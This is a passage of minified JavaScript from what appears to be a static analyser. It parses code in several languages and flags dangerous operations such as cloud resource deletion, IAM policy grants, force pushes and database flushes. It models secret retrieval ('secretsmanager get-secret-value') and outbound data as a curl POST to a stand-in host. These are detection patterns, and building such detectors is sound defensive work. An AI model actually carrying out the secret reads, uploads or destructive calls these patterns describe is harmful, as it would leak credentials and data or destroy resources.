ewline")return i}return r}var{E:tR,...jk}=S.escapes,{forms:ns}=S;function cl(t){return t.includes("\\")?t.replace(ns.escape,(e,s,r,n,o,i,a)=>{if(i!==void 0)return"";if(o!==void 0)return String.
fromCharCode(Number.parseInt(o,8));let l=s??r??n;if(l===void 0)return jk[a]??a;let c=Number.parseInt(l,16);return c>1114111?"":String.fromCodePoint(c)}):t}var tp={
"(":")","[":"]","{":"}","<":">"};function Qe(t,e,s){return t.lastIndex=s,t.exec(e)??void 0}function sp(t,e,s){let{lexer:r}=s,n=t[e],o=Qe(r.triple?ns.prefixed_quote:
ns.quote,t,e);if(o){let{prefix:d="",close:u=""}=o.groups,p=r.interpolation==="template",f=r.triple?!/f/i.test(d):u==="'"||u==='"'&&p,m=u!=="`"||p?"text":"shell",
h=(u!=="'"||r.single_escapes)&&!/r/i.test(d),g=f?"none":r.interpolation;return dl(t,e+o[0].length,s,{close:u,kind:m,escapes:h,interpolation:g})}if(r.patterns&&n===
"/"&&s.value){let d=Qe(ns.slashed_pattern,t,e);return d&&rp(e+d[0].length)}let i=r.quoting==="q"?Qe(ns.input_line,t,e):void 0;if(i)return{token:{kind:"name",text:"\
STDIN"},end:e+i[0].length};if(r.heredoc&&n==="<")return Fk(t,e,s);let a=t.slice(Math.max(0,e-2),e),c=(r.quoting==="q"?!/[\w$@%&>]$/.test(a):s.value||/\w\s$/.test(
a))?Qe(ns[`quoting_${r.quoting}`],t,e):void 0;return c&&Mk(t,c,s)}function dl(t,e,{lexer:s,within:r},n){let{close:o="\0",kind:i="text",escapes:a,interpolation:l=a?
s.interpolation:"none"}=n,c=[],d=e,u=e,p=f=>{let m=t.slice(u,f),h=a?cl(m):m.replace(/\\(['\\])/g,"$1");h!==""&&c.push(h)};for(;d<t.length&&!t.startsWith(o,d);){
let f=t[d];if(f===`
`&&o.length===1&&l==="f_string")break;let m=l==="f_string"&&/[{}]/.test(f)&&t[d+1]===f,h=r&&f!=="\\"?Wk(t,d,l,r):void 0;if(!h){d+=f==="\\"||m?2:1;continue}p(d),
c.push(h.tokens),d=h.end,u=d}return p(Math.min(d,t.length)),c.length===0&&c.push(""),{token:{kind:i,pieces:c},end:Math.min(t.length,d+o.length)}}function Wk(t,e,s,r){
let n=Qe(ns[`opening_${s}`],t,e);if(n)return r(e+n[0].length);let o=s==="dollar"?Qe(ns.dollar_name,t,e):void 0;if(!o)return;let[{length:i},a,l,c,d]=o,u=`$${l??c}`;
return a!==void 0?u=`"${a}"`:d!==void 0&&(u=/^(?:ENV|ARGV)$/.test(c??"")?`${u}.${d.replace(/\W/g,"")}`:"\uFFFC"),{tokens:[{kind:"name",text:u}],end:e+i}}var rp=t=>({
token:{kind:"text",pieces:["\uFFFC"]},end:t});function Mk(t,e,s){let r=e[1],n=e[2].trim(),o=tp[n]??n,i=e.index+e[0].length,a=i;for(let p=1;a<t.length&&(t[a]==="\
\\"?a+=1:t[a]===o?p-=1:t[a]===n&&(p+=1),p!==0);a++);let l=t.slice(i,a),c=Math.min(t.length,a+1);if(["qw","%w","%W","%i","%I"].includes(r))return{token:{kind:"wo\
rds",words:l.split(/\s+/).filter(p=>p!=="")},end:c};if(["m","tr","y","s","qr","%r"].includes(r)){let p=["tr","y","s"].includes(r)?t.indexOf(o,c+(tp[n]?1:0)):a;return rp(
p<0?t.length:p+1)}let d=!["q","%q"].includes(r),u=["qx","%x"].includes(r)?"shell":"text";return{...dl(t.slice(0,a),i,s,{kind:u,escapes:d}),end:c}}function Fk(t,e,s){
let r=Qe(ns[`heredoc_${s.lexer.heredoc}`],t,e);if(!r)return;let n=t.indexOf(`
`,e),o=Math.max(s.heredocEnd,n<0?t.length:n+1),i=new RegExp(`^[ \\t]*${r[1]??r[2]??r[3]}\\b`,"m").exec(t.slice(o)),a=o+(i?.index??t.length),{token:l}=dl(t.slice(
0,a),o,s,{escapes:!r[2]});return{token:l,end:e+r[0].length,heredocEnd:a+(i?.[0].length??0)}}var{codeWords:Uk,forms:qr}=S,Vk=12,Oo=16e3;function Qs(t,e,s=0,r=0){let n=[],o=s,i=0,a=0,l=0,c=r<Vk?d=>Qs(t,e,d,r+1):void 0;for(;o<t.length&&n.length<Oo;){if(t[o]===
`
`){o=Math.max(o+1,l),l=0;let m=Qe(/[ \t]*/y,t,o)?.[0].length??0;e.lines!=="none"&&i===0&&(e.lines==="statements"||a===0)&&n.push({kind:"newline",indent:m});continue}
let d=Hk(t,o,e);if(d!==void 0){o=d;continue}let u={lexer:e,value:Gk(n.at(-1)),within:c,heredocEnd:l},p=sp(t,o,u)??Bk(t,o,e),{token:f}=p;if(A(f,"(","[")&&(i+=1),
A(f,")","]")&&(i=Math.max(0,i-1)),A(f,"{")&&(a+=1),A(f,"}")){if(a===0&&r>0)break;a=Math.max(0,a-1)}n.push(f),o=p.end,l=p.heredocEnd??l}return{tokens:ep(e.lines===
"statements"?Kk(n):n),end:o+1}}function Hk(t,e,{comment:s,block_comment:r}){let n=Qe(qr.code_space,t,e);if(n)return e+n[0].length;let o=s.some(a=>t.startsWith(a,
e));if(!o&&!(r&&t.startsWith(r[0],e)))return;let i=o?t.indexOf(`
`,e):t.indexOf(r[1],e+2);return i<0?t.length:i+(o?0:2)}function Bk(t,e,s){let r=zk(t,e,s);if(r!==void 0)return{token:{kind:"name",text:r},end:e+r.length};let n=Qe(
qr.code_number,t,e)?.[0];if(n!==void 0){let a=n.replaceAll("_","");return{token:{kind:"number",number:/^0[0-7]+$/.test(a)?Number.parseInt(a,8):Number(a)},end:e+
n.length}}let o=Qe(qr.code_mark,t,e)?.[0]??t[e],i=o==="::"&&s.lines==="indent"?":":o;return{token:{kind:"mark",text:i},end:e+i.length}}function zk(t,e,s){let r=e;
for(;r-e<2&&s.sigils.includes(t[r]??" ");)r+=1;let n=Qe(qr.code_name,t,r)?.[0];if(n!==void 0){let o=r+n.length,i=/[?!]$/.test(n)&&(s.interpolation!=="hash"||t[o]===
"=")?o-1:o;return t.slice(e,i)}if(r!==e)return s.interpolation==="dollar"&&/[_!@0&\d]/.test(t[r]??"")?t.slice(e,r+1):t[e]==="$"&&s.lines!=="none"?"$":void 0}function Gk(t){
return!t||t.kind==="newline"?!0:t.kind==="mark"?![")","]","}"].includes(t.text):t.kind==="name"&&Uk.before_value.has(t.text)}function Kk(t){return t.filter((e,s)=>{
let[r,n]=[t[s-1],t[s+1]];return e.kind!=="newline"?!0:r?.kind==="newline"||n?.kind==="mark"&&qr.continued_mark.test(n.text)?!1:!(r?.kind==="mark"&&qr.continuing_mark.
test(r.text))})}var Xs=32,Yk=65536,op=4096,os=`${"\uFFFC"}\uFFF9`,I={kind:"unknown"},ip=t=>t.length>Yk?"\uFFFC":t;function Et(t,e){return t.kind==="content"?t:w.alternatives(v.
texts(t).map(s=>s.includes("\uFFFC")?"\uFFFC":ip(e(s))))}var ap=new Set(["function","name","made","map","choice"]),Qk=/^(?:None|null|undefined|nil|undef)$/,Xk=12,
w={text:(...t)=>({kind:"text",of:t}),number:(t=Number.NaN)=>Number.isNaN(t)?I:{kind:"number",number:t},list:t=>({kind:"list",items:t.slice(0,op)}),name:(t,e)=>({
kind:"name",path:t,self:e}),derived:(t,...e)=>({kind:"made",by:t,args:e}),content:(t,e=[])=>({kind:"content",files:e,from:t}),variable:(t="")=>({...w.content([bt(
"printenv",t===""?[]:[R(t)])]),variable:t}),received:()=>w.content([bt("recv",[])]),glob:t=>t.kind==="text"?{...t,glob:!0}:t,alternatives(t){let e=[...new Set(t)];
return e.length>Xs&&e.splice(Xs,e.length,"\uFFFC"),{kind:"text",of:e.length>0?e:["\uFFFC"]}},joined(t,e=""){let s=l=>l.length>Xs?["\uFFFC"]:l,[r=[""],...n]=t.map(
v.texts),o=n.reduce((l,c)=>s(l.flatMap(d=>c.map(u=>ip(d+e+u)))),s(r)),i=w.merged(t.filter(l=>l.kind==="content")),a=w.alternatives(o);return i.kind==="content"?
{...i,of:v.texts(a)}:t.some(O.glob)?w.glob(a):a},merged(t){let e=t.filter(l=>l.kind!=="unknown"&&!(l.kind==="name"&&Qk.test(l.path))),[s]=e;if(!s)return I;if(t.
length===1)return s;if(e.every(l=>l.kind==="text"||l.kind==="number")){let l=w.alternatives([...e,...t].flatMap(v.texts));return e.some(O.glob)?w.glob(l):l}let r=e.
filter(l=>l.kind==="content");if(r.length>0)return{kind:"content",files:[...new Set(r.flatMap(l=>l.files))].slice(0,Xs),from:[...new Set(r.flatMap(l=>l.from))].
slice(0,Xs),of:r.length===1?r[0].of:void 0};if(e.every(({kind:l})=>ap.has(l)))return w.choice(e);let n=e.filter(l=>l.kind==="list");if(n.length<e.length)return s;
let o=Math.max(...n.map(l=>l.items.length)),i=Array.from({length:o},(l,c)=>w.merged(n.flatMap(d=>d.items[c]??[]))),a=n.slice(0,Xs).flatMap(l=>l.lists??[l.items]);
return{kind:"list",items:i,lists:a}},choice(t){let e=[...new Set(t.flatMap(s=>s.kind==="choice"?s.values:[s]))];return e.length===1?e[0]:{kind:"choice",values:e.
slice(0,Xs)}}},v={texts(t){return t?.kind==="text"||t?.kind==="content"&&t.of?t.of:[t?.kind==="number"?String(t.number):"\uFFFC"]},firstText:t=>v.texts(t)[0],word:t=>t?.
kind==="name"?t.path:v.firstText(t),lastName:t=>t.slice(t.lastIndexOf(".")+1),number:t=>t?.kind==="number"?t.number:void 0,elements(t){return t.kind==="list"?t.
items:t.kind==="map"?[...t.entries].map(([s,r])=>s.startsWith("\uFFFC")&&r.kind!=="content"?r:w.text(s)):t.kind==="text"&&!t.glob&&t.of.length===1&&O.known(t)?Array.
from(v.firstText(t).slice(0,op),s=>w.text(s)):[V.client(t)??V.secretContent(t)??(t.kind==="content"||t.kind==="made"||O.glob(t)?t:I)]},items:t=>t?.kind==="list"?
t.items:[],flat:t=>t.flatMap(e=>e.kind==="list"?e.items:[e]),parts:(t,e=0)=>t.slice(0,64).flatMap(s=>s.kind==="choice"?v.parts(s.values,e+1):e>4||s.kind!=="map"&&
s.kind!=="list"?[{key:"",value:s}]:s.kind==="list"?v.parts(s.items,e+1):[...s.entries].flatMap(([r,n])=>[{key:r,value:n},.../^(?:map|list|choice)$/.test(n.kind)?
v.parts([n],e+1):[]]))},O={made:(t,...e)=>t?.kind==="made"&&e.includes(t.by),mock:t=>O.made(V.root(t),"mock"),glob:t=>t?.kind==="text"&&t.glob===!0,known:t=>v.texts(
t).every(e=>!e.includes("\uFFFC")),uneven(t){if(t.length<2||t.length>Xk)return!1;let e=t.every(({kind:r})=>r==="list"||ap.has(r)),s=t.every(r=>r.kind==="text"&&
!r.glob);return e||s&&t.some(r=>v.texts(r).some(n=>/\S\s+\S/.test(n)))}},V={root(t){let e=t;for(;e?.kind==="name";)e=e.self;return e},client(t){let e=V.root(t);
return e?.kind==="choice"?e.values.map(V.client).find(s=>s):O.made(e,"sdk","service","data")?e:void 0},secretContent(t){let e=V.root(t);return e?.kind==="conten\
t"&&e.from.some(({args:r})=>r[1]?.text==="get-secret-value")?e:void 0},content(t,e=0){if(e>4)return;let s=w.merged(t.slice(0,256).map(r=>{if(r.kind==="content")
return r;let n=r.kind==="map"?[...r.entries.values()]:v.flat([r]),o=r.kind==="made"?r.args:n;return V.content(o,e+1)??I}));return s.kind==="content"?{...s,variable:void 0}:
void 0}},np=/^(?:self\.|this\.|\$this\.|@\w)/,Or=class{constructor(e){this.outer=e}outer;values=new Map;get(e){return this.values.get(e)??this.outer?.get(e)}set(e,s){
let r=this;for(;!r.values.has(e)&&r.outer;)r=r.outer;let n=np.test(e)?r.values.get(e):void 0,o=n?.kind==="text"&&s.kind==="text"?w.merged([n,s]):s;(r.values.has(
e)||np.test(e)?r:this).values.set(e,o)}declare(e,s){this.values.set(e,s)}};var lp=require("node:path");var Jk=/^(?:None|null|undefined|nil|undef|false|False)$/,Zk=65536;function No(t,e,s,r){if(t==="||"||t==="or"||t==="??"){if(e.kind==="content")return{...e,of:[...v.
texts(e),...v.texts(s)]};if(e.kind==="text"&&s.kind==="text")return w.merged([e,s]);let n=e.kind==="name"&&(Jk.test(e.path)||e.self?.kind==="map");return e.kind===
"unknown"||n?s:e}return(t==="&&"||t==="and")&&s.kind!=="unknown"?s:t==="|"&&[e,s].some(({kind:n})=>n==="name"||n==="text")?w.choice([e,s]):e.kind==="number"&&s.
kind==="number"?w.number(ev[t]?.(e.number,s.number)):t==="+"||r?e.kind==="list"||s.kind==="list"||O.glob(e)&&O.glob(s)?w.list(v.flat([e,s])):w.joined([e,s]):t===
"/"&&(e.kind==="text"||s.kind==="text"||e.kind==="content"&&e.of)?is([e,s]):t==="%"&&e.kind==="text"?ul(e,v.flat([s])):(t==="*"||t==="x")&&s.kind==="number"?Et(
e,n=>n.repeat(Math.max(0,Math.min(s.number,Zk/(n.length||1)+1)))):t==="-"&&(e.kind==="list"||O.glob(e))?e:V.content([e,s])??I}var ev={"+":(t,e)=>t+e,"-":(t,e)=>t-
e,"*":(t,e)=>t*e,"/":(t,e)=>t/e,"%":(t,e)=>(t%e+e)%e,"^":(t,e)=>t^e,"<<":(t,e)=>t<<e};function is(t){return t.reduce((e,s)=>v.texts(s).every(r=>r.startsWith("/")||
r.startsWith("~"))?s:w.joined([w.text(...v.texts(e).map(r=>r.replace(/(?<=[^/])$/,"/"))),s]))}var Lo=t=>Et(t,e=>/^\.?\/?$/.test(e)?"..":lp.posix.dirname(e));function ul(t,e,s){
let r=0,n=v.firstText(t).split(/(%[-+ 0#\d.*]{0,8}[sdrifxXu]|\$?\{\w{0,20}(?:![rsa])?(?::[^{}]{0,20})?\}|\$[a-z]\w{0,20})/).slice(0,256).map((o,i)=>{if(i%2===0)
return w.text(o.replaceAll("%%","%"));let a=/^[{$]/.test(o)?/\w+/.exec(o)?.[0]:void 0;return o.startsWith("$")&&!s?.has(a??"")?w.text(o):a!==void 0?s?.get(a)??e[Number(
a)]??I:e[r++]??I});return w.joined(n)}function gn(t,[e,s,r]){let[n,o]=[v.number(e),v.number(s)],i=v.number(r)===-1;if(t.kind==="list"){let a=t.items.slice(n,o);
return w.list(i?a.reverse():a)}return t.kind!=="text"?V.content([t])??t:Et(t,a=>{let l=Array.from(a).slice(n,o);return(i?l.reverse():l).join("")})}var at=({args:t,named:e},s)=>e.get(s)??t.find(r=>r.kind==="map")?.entries.get(s),jo=(t,e)=>/^(?:true|All)$/i.test(v.word(at(t,e))),tv=200,sv=/^(?:self|cls|this|[A-Z]\w*)$/,
Nr=(...t)=>({args:t,named:new Map}),Do=class t{constructor(e,s,r,n,o){this.language=e;this.collector=s;this.scope=r;this.tokens=n;this.functions=o;this.end=n.length,
this.body={tokens:n,from:0,to:n.length}}language;collector;scope;tokens;functions;at=0;end;depth=0;definitions=[];returnValues=[];body;hasReturned=!1;activeFunctions=new Set;with(e){
return Object.assign(Object.create(t.prototype),this,e)}nest(e,s,r=this.tokens){return this.with({tokens:r,at:e,end:Math.min(s??r.length,r.length),depth:this.depth+
1})}get token(){return this.at<this.end?this.tokens[this.at]:void 0}take(...e){let s=A(this.token,...e);return s&&(this.at+=1),s}evaluate(e){return this.functions.
evaluate(this,e)}call(e,...s){return this.apply(e,Nr(...s))}apply(e,s){return this.functions.call(this,e,s)}interpret(){return this.functions.interpret(this)}lookUp(e){
let{scope:s,language:r}=this,n=s.get(e)??s.get(e.replace("$","%"))??s.get(e.replace("$","@"));if(n)return n;let o=r.canonicalize(e);return(o===e?void 0:s.get(o))??
r.constants.get(o)??w.name(e)}getMember(e,s){if(e.kind==="made"&&e.by==="proxy"){let o=at(Nr(...e.args),"get");return o?this.call(o,I,w.text(s)):I}if(e.kind==="\
made"&&e.by==="instance"&&!this.scope.get(s)){let o=this.scope.get("__getattr__")??this.scope.get("method_missing");if(o)return this.call(o,w.text(s))}if(O.made(
e,"spy","patcher")&&/^(?:wrappedMethod|temp_original)$/.test(s))return w.name(v.firstText(e.args[0]));if(e.kind==="map"){let o=/^[A-Z][A-Z\d_]*$/.test(s)&&[...e.
entries.values()].some(({kind:i})=>i==="content");return e.entries.get(s)??(o?w.variable(s):w.name(s,e))}if(e.kind==="choice")return w.merged(e.values.map(o=>this.
getMember(o,s)));if(e.kind==="text"&&(e.glob||e.of.some(o=>o.includes(os)))&&/^(?:name|path)$/.test(s))return e;if(e.kind==="name"&&!e.self){let o=`${e.path}.${s}`;
if(o.length>tv)return I;let i=sv.test(e.path)&&!this.scope.get(o)?this.scope.get(s):void 0;return i&&i.kind!=="function"?i:this.collector.imitations.get(o)??this.
lookUp(o)}return O.made(e,"git")&&/^(?:git|common)_dir$/.test(s)&&e.args[0]?w.joined([e.args[0],w.text("/.git")]):O.made(e,"written")&&s==="name"?e.args[0]??I:O.
made(e,"dirent")&&/^(?:name|path|parentPath)$/.test(s)?e.args[s==="name"?1:0]??I:e.kind==="text"&&s==="parent"?Lo(e):e.kind==="text"&&s==="pathname"?Et(e,o=>o.replace(
/^\w+:\/\/[^/]*/,"")):e.kind==="content"&&e.from[0]?.program==="recv"&&(s==="query"||!this.language.methods.has(s))||e.kind==="content"&&["text","content","stdo\
ut","body","data"].includes(s)?e:w.name(s,e)}},as=({sharedDeeds:t},e)=>t.get(v.lastName(e).toLowerCase());var{codeWords:At}=S,Wo=t=>t.kind==="name"?K(t.path,"harmless-names"):/^(?:text|number|list|map)$/.test(t.kind)||O.made(t,"error"),bn=({language:t},e)=>Wo(e)||O.
mock(e)||e.kind==="function"||O.made(e,"bound","spy")||e.kind==="name"&&!e.self&&t.functions.has(t.canonicalize(e.path));function cp(t,e,s){let{collector:r}=t,n=new Map(
r.imitations);n.delete(e),r.step(n.size>>4);let o=bn(t,s)&&pp(t)&&!r.signs.has("reaches-around");r.imitations.has(e)&&Lt(t,n),o&&(r.imitations=new Map(r.imitations).
set(e,s))}function yt(t,e,s,r){return O.mock(s)?dp(t,s,[e],v.firstText(r)):O.known(r??s)?s.kind==="text"?cp(t,v.firstText(s),e):s.kind==="name"&&!s.self&&cp(t,`${s.
path}.${v.firstText(r)}`,e):Lt(t),e}function Lt(t,e=new Map){let{collector:s}=t,r=new Map([...e].filter(([o,i])=>s.imitations.get(o)===i)),n=r.size<s.imitations.
size;if(s.imitations=r,!(!n||s.isRepeating)){s.isRepeating=!0;for(let o of[...s.postponed])o();s.isRepeating=!1}}function Ve(t,e,s){let r=t.with({body:void 0}),
n=()=>{let{imitations:o}=r.collector,i=r.call(e,...s);return Lt(r,o),i};return yn(r,n),n()}function yn(t,e,s){let{collector:r}=t,{imitations:n,isRepeating:o,postponed:i}=r;
n.size===0||o||(!s||s.later||pl(t,s,...At.suspending))&&i.push(e)}function pl({collector:t},{tokens:e,from:s,to:r},...n){return!t.step(r-s>>5)||e.slice(s,r).some(
o=>A(o,...n))}function Mo(t,e){let{collector:s,language:r}=t,o=e.kind==="name"&&At.imitating.has(r.canonicalize(e.path))?t.call(e):e;if(!O.made(o,"patcher")||s.
signs.has("reaches-around"))return e;let[i,a=o]=o.args;return s.imitations=new Map(s.imitations).set(v.firstText(i),a),a}function dp(t,e,s,r=""){let n=V.root(e),
o=s.flatMap(a=>v.parts([a])).map(({value:a})=>a);n.args.push(...o.filter(a=>!Wo(a)&&V.root(a)!==n)),/side_effect|wraps|callsFake|Implementation|configure|attach/.
test(r)&&!o.every(a=>bn(t,a))&&Lt(t)}function rv(t,e,s){let r=V.root(e),n=e.kind==="name"?e.path:"";if(At.mock_ends.has(n)&&Lt(t),At.mock_setters.has(n)&&dp(t,r,
[...s.args,...s.named.values()],n),At.mock_setters.has(n)||/^assert_/.test(n)||!t.collector.step())return r;let o=r.args.flatMap(i=>{if(O.mock(i)||Wo(i))return[
i];let l=i.kind==="function"||i.kind==="name"?t.apply(i,s):i;return i.kind==="function"||e===r?[l]:[l,t.apply(up(t,e,i),s)]});return w.choice([r,...o.filter(i=>!Wo(
i))])}var up=(t,e,s)=>e.kind==="name"?t.getMember(e.self?up(t,e.self,s):s,e.path):s;function pp(t){let{at:e,body:s}=t;return!s||!wn(t)?!1:s.caller?s.later||pl(t,
{...s,to:e-1},...At.exiting)?!1:!pl(t,s,"yield")&&(s.caller==="any"||pp(s.caller)):!0}function wn(t,e=0){let{tokens:s,at:r,body:n,language:o}=t;if(!n||n.tokens!==
s||o.blocks==="end")return!1;let i=o.blocks==="indent",a=r-1;t.collector.step(a-n.from>>3);let l=n.from,c=l;for(;c<=a;){let m=de(s,c);if(m>a)return!1;let[h,g,y]=[
s[c-1],s[c],s[m+1]],x=g?.kind==="newline"&&(i||!A(h,")",...At.continuing)),$=A(g,"{")&&y?.kind==="name"&&!A(y,...At.continuing);c=m+1,(x||!i&&($||A(g,";")))&&(l=
c)}let d=s[l-1],u=s[X(s,n.from,s.length,[":"])+1],p=u?.kind==="newline"&&n.caller?u.indent:0;if(d?.kind==="newline"&&i&&d.indent!==p)return!1;let f=X(s,r,s.length,
[";"]);return X(s,l+e,f,[...At.conditional],!1)===f}function fp(t,e,s){if(O.mock(e))return rv(t,e,s);if(e.kind!=="name")return;let{collector:r}=t,{path:n,self:o}=e,
i=v.lastName(n),a=At.mock_setters.has(i)&&!O.made(V.root(o),"spy");if(r.imitations.size>0&&(a||At.mock_ends.has(i))&&Lt(t),O.mock(s.args[0])&&as(t.language,n))return s.
args[0];let c=/^[A-Z]/.test(i)&&!o&&r.isLibrary(n)?["transport","connection","session"].map(d=>at(s,d)):[];return(o?void 0:r.imitations.get(`class ${n.replace(/\.from$/,
"")}`))??c.find(O.mock)}var{codeWords:fl}=S,nv=160,ov=64;function ml(t,e){let{tokens:s,at:r,end:n,language:o}=t,i=[";","=>",")","}",...e?[]:[","],...o.blocks==="end"?["do"]:[]],a=Math.
min(n,r+nv),l=X(s,r,a,[...fl.assigning,...i]);return l<a&&A(s[l],...fl.assigning)?l:void 0}function Dt(t,e,s,r){let{tokens:n,scope:o}=t,i=e;for(;i<s&&A(n[i],...fl.
declaring);)i+=1;let a=n[i];if(a?.kind==="mark"&&a.close!==void 0)(a.text==="{"?av:mp)(t,i+1,Math.min(a.close,s),r);else if(X(n,i,s,[","],!1)<s)mp(t,i,s,r);else{
if(iv(t,i,s,r))return;let l="";for(let u=i;u<s;u++){let p=n[u];if(p.kind==="name")l+=l!==""&&!l.endsWith(".")?"":p.text;else if(A(p,".","->","::","?."))l+=".";else
break}if(l==="")return;let c=O.mock(r)||O.made(r,"git")?o.get(l):void 0,d=l.startsWith("@")&&r.kind==="text"&&!r.glob;o.set(l,c?w.choice([c,r]):d?w.list([r]):r)}}
function iv(t,e,s,r){let{tokens:n,language:o}=t,[i,a]=n.slice(e,e+2);if(i?.kind!=="name")return!1;let l=t.lookUp(i.text);if(A(a,"[")&&e+1<s){let m=de(n,e+1),h=t.
nest(e+2,m).evaluate();if(l.kind==="map"&&O.known(h)){let g=l.entries.get(v.firstText(h));l.entries.set(v.firstText(h),g?w.merged([g,r]):r)}else l.kind==="name"&&
m===s-1&&yt(t,r,l,h);return!0}let c=n[s-1],d=A(a,"(")?i.text==="require":l.kind==="name"&&!l.self;if(c?.kind!=="name"||!A(n[s-2],...o.member_operators)||!O.mock(
l)&&!d)return!1;let u=t.nest(e,s-2).evaluate(),p=u.kind==="name"&&!u.self?o.canonicalize(`${u.path}.${c.text}`):"",f=r.kind==="function"&&o.sdks.some(m=>p.startsWith(
m));return!O.mock(u)&&!f&&!o.functions.has(p)?!1:(yt(t,r,u,w.text(c.text)),!0)}function mp(t,e,s,r){let n=r.kind==="list"?r.items:[],o=e;for(let i=0;o<s;i++){let a=X(
t.tokens,o,s,[","],!1),l=r.kind==="content"?r:n[i]??V.client(r)??I;a>o&&Dt(t,o,a,l),o=a+1}}function av(t,e,s,r){for(let n=e;n<s;n++){let o=t.tokens[n];if(o.kind!==
"name")continue;let i=A(t.tokens[n+1],":","=>")?t.tokens[n+2]:void 0;t.scope.set(i?.kind==="name"?i.text:o.text,t.getMember(r,o.text)),n=X(t.tokens,n,s,[","],!1)}}
var Js=t=>w.merged(v.elements(t).slice(0,ov));var{codeWords:_s}=S,hp="https://sdk.example";function bp(t,e,s){let{collector:r,language:n,tokens:o,at:i}=t,a=n.canonicalize(e.path),l=v.lastName(a),c=V.client(
e.self),d=O.made(c,"sdk")?c:void 0;if(e.self?.kind==="name"&&/^(?:call|apply|bind)$/.test(l))return;let u=s.args.some(T=>v.firstText(T)===":memory:");if(u||!d&&
(e.self||!n.sdks.some(T=>a.startsWith(T)))){let T=O.mock(s.args[0])||A(o[i+1],"toString","toSQL")||r.isMocked||r.isInMemory;!u&&!T&&dv(e,a,as(n,l)!==void 0)&&r.
addInvocation("cloud-sdk",[l]);return}let p=[..._s.endpoints].map(T=>at(s,T)).find(T=>T),f=p?[w.text("--endpoint-url"),p]:d?.args??[],m=/instance|volume|snapshot|image|vpc|subnet|security_?group|key_?pair/i.
test(l)?jo(s,"DryRun"):/namespace|_node\b/i.test(l)&&["dry_run","dryRun"].some(T=>jo(s,T));if(!d&&l.endsWith("Command"))return w.derived("sdk-command",w.text(m?
"":l));let h=s.args.flatMap(T=>O.made(T,"sdk-command")?v.texts(T.args[0]):[]),g=m||r.imitates("services")||r.isEmulated,y=v.lastName(v.word(e.self??w.name(e.path.
replace(/\.\w+$/,"")))),x=[...s.args,...s.named.values()];!g&&(d||l==="request")&&wp(v.parts(x))&&r.addInvocation("cloud-sdk",["DELETE",...f]);for(let T of g?[]:
[v.lastName(e.path),...h])(kp(T)||T==="cancel"&&/^subscriptions?$/i.test(y))&&r.addInvocation("cloud-sdk",[T,...f]);let $=T=>K(T,"granting-methods")||r.signs.has(
"cluster-admin")&&K(T,"role-methods");if(d&&!g&&[l,...h].some($)&&r.addInvocation("aws",["iam","attach-user-policy",...f]),d&&[l,...h].some(T=>K(T.replace(/Command$/,
""),"secret-methods")))return w.content([r.createInvocation("aws",["secretsmanager","get-secret-value"])]);/^update_?ref$/i.test(l)&&jo(s,"force")&&r.addInvocation(
"git",["push","--force"]);let C=d&&K(l,"sending-methods")?V.content(x):void 0;C&&C.from.length>0&&r.addInvocation("curl",["-X","POST","-d","@-",hp],r.createInput(
C));let _=C?.files??(d&&/^upload/i.test(l)?v.texts(s.args[0]):[]);for(let T of _)r.addInvocation("curl",["-X","POST","-d",`@${T}`,hp]);return w.derived("sdk",...f)}
function yp(t,e,s){let{collector:r}=t,n=V.client(e.self),o=v.parts([...s.args,{kind:"map",entries:s.named}]);if(!n){let c=e.self?void 0:lv(t,e.path,o);return c===
void 0?void 0:w.derived(c)}let i=v.lastName(e.path),l=i==="destroy"&&o.length===0||r.imitates("services");return n.by==="service"&&!l&&(kp(i)||wp(o))&&r.addInvocation(
"cloud-sdk",[i]),n.by==="data"&&K(i,"emptying-methods")&&!r.isMocked&&r.addInvocation("sql",["flush",i]),n}var wp=t=>t.some(({value:e})=>e.kind==="text"&&e.of.some(
s=>K(s,"deleting-requests")));function lv({collector:t,language:e},s,r){if(K(s,"own-data-modules")&&!t.isMocked)return"data";if(!(e.blocks==="end"?/^[A-Z]/.test(
s):t.isLibrary(s)))return;let o=r.map(({value:d})=>V.client(d)).find(d=>d);if(o)return o.by==="data"?"data":"service";let i=!s.includes(".")||K(v.lastName(s),"c\
lient-makers"),a=r.filter(({key:d})=>d===""||K(d,"place-options")),l=a.flatMap(({value:d})=>d.kind==="text"?d.of:[]);if(!i)return;if([..._s.data_signs].some(d=>t.
signs.has(d))){let u=r.some(({key:m,value:h})=>m==="type"&&v.firstText(h)==="sqljs")||l.some(m=>K(m,"passing-data")),p=a.filter(({value:m})=>m.kind!=="text"||m.
of.some(cv)),f=p.every(({value:m})=>v.texts(m).every(h=>K(h,"passing-data")));return(u||p.length>0)&&t.openedDatabases.push(u&&f),u?void 0:"data"}return l.some(
d=>K(d,"own-addresses"))?void 0:r.some(({key:d,value:u})=>K(d,"service-options")||v.texts(u).some(p=>K(p,"service-addresses"))||K(u.kind==="content"&&u.variable||
"","service-variables"))?"service":void 0}var cv=t=>/[/:]|\.(?:db|sqlite3?)$/.test(t);function dv({self:t,path:e},s,r){let n=v.lastName(s),o=t?.kind==="name"?t.
path:s.slice(0,-n.length-1);if(t===void 0&&o===""||/^(?:this|self|(?:\w+\.)?indexedDB)\b/.test(o))return!1;if(_s.remote_members.has(v.lastName(o).toLowerCase().
replaceAll("_",""))&&Fo(n,!1))return!0;let a=v.lastName(e),l=t===void 0&&/^[A-Z]/.test(a),c=(r||l?void 0:Fo(a,!1))??[];return c.length>0&&(c.every(gp)||gp(c.join(
"")))}var gp=t=>[t,`${t}s`,`${t}es`].some(e=>_s.remote.has(e)),kp=t=>Fo(t,!1)!==void 0||Fo(t,!0)?.some(e=>_s.passing.has(e))===!1;function Fo(t,e){let r=t.replace(
/([a-z])([A-Z])/g,"$1_$2").toLowerCase().split(/[_!?]+/),n=r.filter(a=>a!==""&&!_s.deletion_fillers.has(a)),o=(a="")=>_s.deleting.has(a)||e&&_s.loosely_deleting.
has(a);return!o(n[0])&&!o(n.at(-1))||r.some(a=>/^(?:from|tags?|labels?)$/.test(a))?void 0:n.filter(a=>!o(a))}var{codeWords:kn,forms:Zs}=S,uv=60,pv=40;function Tt(t,e,s){if(e.kind==="function"){let T=()=>gv(t,e,s);return yn(t,T,e.definition),T()}if(e.kind==="content")return e;
if(e.kind==="text")return w.merged(v.texts(e).map(T=>Tt(t,w.name(T),s)));if(e.kind==="list"&&e.items.length>1)return Tt(t,e.items.at(-1),s);let r=fp(t,e,s);if(r)
return r;if(e.kind==="made")return fv(t,e,s);if(e.kind==="choice")return w.merged(e.values.map(T=>Tt(t,T,s)));if(e.kind!=="name")return gl(t,e,s);if(e.path.endsWith(
